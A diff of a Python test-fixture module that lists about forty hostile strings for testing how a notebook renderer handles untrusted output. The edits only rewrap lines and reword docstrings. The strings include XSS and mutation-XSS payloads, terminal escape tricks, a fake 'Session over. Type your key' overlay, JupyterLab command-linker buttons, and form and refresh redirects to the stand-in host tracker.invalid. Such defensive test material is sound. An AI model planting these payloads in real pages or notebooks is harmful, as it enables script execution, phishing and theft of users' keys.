@@ -2,8 +2,8 @@ r"""Forty texts that a stranger could get into a notebook: through a model, a to
 notice.
 
 Each tries to run a script (`pwned()`, which the page under test defines), to load something from outside
-(`tracker.invalid`), or to press something in JupyterLab or VS Code. tests/helpers/injections.py has forty more, which
-are about web pages in general.
+(`tracker.invalid`), or to press something in JupyterLab or VS Code. tests/helpers/injections.py has forty
+more, which are about web pages in general.
 """
 
 from __future__ import annotations
@@ -24,13 +24,14 @@ FIRST = (
     '<button data-commandlinker-command="terminal:create-new">open</button>',
     '<base href="https://tracker.invalid/">',
     '<meta http-equiv="refresh" content="0;url=https://tracker.invalid/">',
-    '<form action="https://tracker.invalid"><input name=key autofocus onfocus=pwned()><button>send</button></form>',
+    '<form action="https://tracker.invalid"><input name=key autofocus '
+    "onfocus=pwned()><button>send</button></form>",
     "\x1b]8;;javascript:pwned()\x1b\\click\x1b]8;;\x1b\\",
     "</title></text><script>pwned()</script>",
     '"><animate onbegin=pwned() attributeName=x dur=1s>',
     "<a href='x'><img src=x onerror=pwned()></a>",
 )
-"""The ones with which the code was written."""
+"""The texts that the code was written with."""
 
 ASIDE = (
     "<details open ontoggle=pwned()><summary>more</summary></details>",
@@ -46,15 +47,18 @@ ASIDE = (
     '<svg><foreignObject><iframe src="javascript:parent.pwned()"></iframe></foreignObject></svg>',
     "<svg><use href=\"data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'>"
     "<image href='1' onerror='pwned()'/></svg>#x\"/></svg>",
-    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=pwned()&gt;"></table></mtext></math>',
+    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x '
+    'onerror=pwned()&gt;"></table></mtext></math>',
     '<a href="/lab?reset" data-commandlinker-command="apputils:reset">again</a>',
     '<input type=image src="https://tracker.invalid/i.png" formaction=javascript:pwned()>',
     "File ' autofocus tabindex=0 onfocus=pwned() x=':12\n 12 run",
     "]]></title></svg><img src=x onerror=pwned()><svg><title><![CDATA[",
     "\x1b[8m\x1b[2J\x1b]0;owned\x07www.tracker.invalid \x9b31m",
-    '<p style="position:fixed;inset:0;z-index:9999" onclick=pwned() class="jp-Dialog">Session over. Type your key.</p>',
-    "{{constructor.constructor('pwned()')()}}<template shadowrootmode=open><img src=x onerror=pwned()></template>",
+    '<p style="position:fixed;inset:0;z-index:9999" onclick=pwned() class="jp-Dialog">Session over. Type '
+    "your key.</p>",
+    "{{constructor.constructor('pwned()')()}}<template shadowrootmode=open><img src=x "
+    "onerror=pwned()></template>",
 )
-"""The ones that were kept aside until it was done."""
+"""The texts that were held back until the code was done."""
 
 STRANGERS = FIRST + ASIDE
